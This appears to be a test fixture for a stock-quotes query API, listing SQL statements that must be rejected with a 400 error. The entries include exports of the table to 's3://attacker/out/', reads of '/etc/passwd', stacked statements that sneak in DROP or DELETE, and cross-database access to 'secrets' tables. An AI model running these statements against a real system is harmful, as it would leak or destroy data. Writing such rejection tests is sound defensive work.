-- Statements the query API must refuse with 400 on every engine, before any engine sees them.
-- Entries are separated by a line holding `---`; lines starting with `--` describe the entry.
---
-- DDL
CREATE TABLE t (a INT)
---
CREATE TABLE copy AS SELECT * FROM quotes
---
CREATE EXTERNAL TABLE leak STORED AS PARQUET LOCATION '/etc/'
---
CREATE EXTERNAL TABLE leak (a string) STORED AS PARQUET LOCATION 's3://other-bucket/secret/'
---
CREATE VIEW v AS SELECT * FROM quotes
---
CREATE OR REPLACE VIEW v AS SELECT 1
---
CREATE DATABASE other
---
CREATE SCHEMA other
---
CREATE FUNCTION f(x INT) RETURNS INT RETURN x
---
DROP TABLE quotes
---
DROP DATABASE stockstream CASCADE
---
ALTER TABLE quotes ADD COLUMNS (x string)
---
ALTER TABLE quotes ADD PARTITION (symbol = 'X', year = 2020) LOCATION 's3://b/x/'
---
ALTER TABLE quotes RENAME TO q2
---
TRUNCATE TABLE quotes
---
MSCK REPAIR TABLE quotes
---
-- DML
INSERT INTO quotes SELECT * FROM quotes
---
INSERT INTO quotes VALUES ('X', DATE '2020-01-01', 1, 1, 1, 1, 1, 1, 1)
---
INSERT OVERWRITE TABLE quotes SELECT * FROM quotes
---
UPDATE quotes SET close = 0
---
DELETE FROM quotes WHERE symbol = 'HSI'
---
MERGE INTO quotes t USING quotes s ON t.symbol = s.symbol WHEN MATCHED THEN DELETE
---
-- writing files
COPY quotes TO '/tmp/out.parquet'
---
COPY (SELECT * FROM quotes) TO 's3://attacker/out/' STORED AS PARQUET
---
UNLOAD (SELECT * FROM quotes) TO 's3://attacker/out/' WITH (format = 'PARQUET')
---
SELECT * INTO new_table FROM quotes
---
-- session and transaction state
SET datafusion.execution.target_partitions = 1
---
SET TIME ZONE 'UTC'
---
USE other
---
START TRANSACTION
---
COMMIT
---
PREPARE p FROM SELECT * FROM quotes
---
EXECUTE p
---
DEALLOCATE PREPARE p
---
GRANT SELECT ON quotes TO someone
---
CALL system.sync_partition_metadata('stockstream', 'quotes', 'FULL')
---
ANALYZE quotes
---
LOAD DATA INPATH '/tmp/x' INTO TABLE quotes
---
-- more than one statement
SELECT 1; SELECT 2
---
SELECT count(*) FROM quotes; DROP TABLE quotes
---
SELECT 1; DELETE FROM quotes
---
-- files, URLs and table functions used as tables
SELECT * FROM '/etc/passwd'
---
SELECT * FROM 'file:///etc/passwd'
---
SELECT * FROM "s3://other-bucket/secret.parquet"
---
SELECT * FROM "/var/lib/stockstream/lake/_stockstream/catalog/catalog.json"
---
SELECT * FROM read_parquet('/etc/passwd')
---
SELECT * FROM read_csv('s3://bucket/x.csv')
---
SELECT * FROM parquet_scan('x.parquet')
---
SELECT * FROM TABLE(read_json('x'))
---
SELECT * FROM quotes q JOIN read_parquet('/tmp/x.parquet') p ON true
---
-- other databases, catalogs and metadata
SELECT * FROM other_db.secrets
---
SELECT * FROM awsdatacatalog.other_db.secrets
---
SELECT * FROM "lambda:exfil".schema1.table1
---
SELECT * FROM information_schema.tables
---
SELECT * FROM information_schema.columns WHERE table_schema = 'other_db'
---
SELECT * FROM quotes WHERE symbol IN (SELECT name FROM other_db.secrets)
---
WITH x AS (SELECT * FROM other_db.t) SELECT * FROM x
---
SHOW TABLES IN other_db
---
SHOW COLUMNS FROM other_db.secrets
---
DESCRIBE other_db.secrets
---
SELECT * FROM unknown_table
---
-- explain of a writing statement
EXPLAIN INSERT INTO quotes SELECT * FROM quotes
---
EXPLAIN ANALYZE DELETE FROM quotes
---
-- not a statement
SELEC * FROM quotes
---
-- placeholders other than ?
SELECT * FROM quotes WHERE symbol = $1
---
SELECT * FROM quotes WHERE symbol = :symbol
---
-- locking
SELECT * FROM quotes FOR UPDATE
